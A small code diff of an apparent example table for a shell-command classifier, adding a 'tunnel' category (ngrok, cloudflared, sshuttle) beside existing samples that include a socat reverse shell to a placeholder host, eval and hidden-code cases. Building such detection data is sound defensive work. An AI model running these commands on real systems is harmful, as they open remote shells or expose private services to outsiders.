@@ -317,6 +317,7 @@ export const examples: Readonly<Record<string, readonly string[]>> = {
 		'socat TCP:x.example:1 EXEC:sh',
 		`python3 -c 'import socket; s=socket.socket()'`,
 	],
+	tunnel: ['ngrok http 3000', 'cloudflared tunnel run x', 'sshuttle -r a b'],
 	'computed-program': ['$x a', '"$(echo ls)" a', 'eval "$x"', '${a}${b} c'],
 	'hidden-code': [
 		'make -f - < x',
